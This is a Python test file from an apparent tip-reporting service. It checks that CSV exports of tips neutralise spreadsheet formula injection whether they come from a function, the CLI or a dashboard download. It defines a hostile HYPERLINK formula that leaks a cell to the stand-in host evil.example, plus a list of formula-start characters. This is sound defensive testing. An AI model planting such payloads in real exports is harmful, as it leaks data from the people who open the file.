"""A tip's text never runs as a formula in the coordinator's spreadsheet, whichever way the
tip was exported (the export function, `homeward tips export`, the dashboard's download)."""

from __future__ import annotations

import csv
import io
from datetime import UTC

import pytest
from click.testing import CliRunner

from bot.cli import cli
from storage import session_scope
from storage.coordinators import find_coordinator
from storage.reports import get_report
from tests.bot.dashboard_helpers import (
    Clock,
    DashboardUser,
    dashboard_app,
    enlist,
    report_sighting,
    settings_for,
)
from tests.bot.telegram_helpers import make_services
from tests.conftest import REDIS_URL
from tests.triage.coordinators import CoordinatorActor
from triage.export import export_tip, package_csv

# A place a spreadsheet would run, naming a real place so the interview takes it at once.
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"成都火车北站")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cells(text: str) -> list[str]:
    """Every cell of a CSV file as a spreadsheet reads it."""
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_nothing_runs(text: str) -> dict[str, str]:
    """No cell starts like a formula (a leading quote makes it text); returns field -> value."""
    cells = spreadsheet_cells(text)
    assert cells, "an empty export"
    running = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert running == [], running
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")))
    return {row[0]: row[1] for row in rows if row}


@pytest.fixture
def hostile_tip(tipster) -> str:
    """A sighting whose place is a formula and whose tipster left a +86 phone number."""
    return report_sighting(tipster, place=HOSTILE)


def test_the_package_csv_quotes_formulas_and_keeps_the_phone_text(hostile_tip, engine, cipher):
    CoordinatorActor(engine, "alice")
    with session_scope(engine) as session:
        package = export_tip(
            session=session,
            report=get_report(session=session, ref=hostile_tip),
            coordinator=find_coordinator(session=session, name="alice"),
            cipher=cipher,
            tz=UTC,
            include_identity=True,
            reason="police asked",
        )

    fields = assert_nothing_runs(package_csv(package))

    assert fields["place.text"] == "'" + HOSTILE
    assert fields["contact.phone"] == "'+8613800138000"  # text, not a formula nor a number


def test_the_cli_export_quotes_formulas(hostile_tip, engine, database_url, secret_key, tmp_path):
    CoordinatorActor(engine, "alice")
    runner = CliRunner(
        env={
            "DATABASE_URL": database_url,
            "REDIS_URL": REDIS_URL,
            "HOMEWARD_DATA_DIR": str(tmp_path),
            "HOMEWARD_SECRET_KEY": secret_key,
        }
    )

    exported = runner.invoke(
        cli,
        ["tips", "export", hostile_tip, "--format", "csv-keys", "--include-identity"]
        + ["--reason", "police request", "--as", "alice"],
    )

    assert exported.exit_code == 0, exported.output
    fields = assert_nothing_runs(exported.stdout)
    assert fields["place.text"] == "'" + HOSTILE
    assert fields["contact.phone"] == "'+8613800138000"
    said = runner.invoke(
        cli,
        ["tips", "export", hostile_tip, "--format", "csv", "--lang", "zh", "--include-identity"]
        + ["--reason", "police request", "--as", "alice"],
    )
    words = assert_nothing_runs(said.stdout)
    assert words["地点"].startswith("'" + HOSTILE)
    assert words["举报人联系方式"] == "'+8613800138000"


def test_the_dashboard_download_quotes_formulas(
    hostile_tip, engine, database_url, secret_key, data_dir, cipher, redis_client, queue, intake
):
    settings = settings_for(database_url, secret_key, data_dir)
    svc = make_services(
        settings, engine=engine, cipher=cipher, redis_client=redis_client, queue=queue,
        intake=intake,
    )  # fmt: skip
    enlist(engine, "alice")
    alice = DashboardUser(dashboard_app(svc, Clock()), "alice")
    alice.signs_in()

    download = alice.posts(
        f"/tips/{hostile_tip}/export", format="csv", include_identity="1", reason="police asked"
    )

    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    fields = assert_nothing_runs(download.text)  # in the coordinator's language (Chinese)
    assert fields["地点"].startswith("'" + HOSTILE)
    assert fields["举报人联系方式"] == "'+8613800138000"
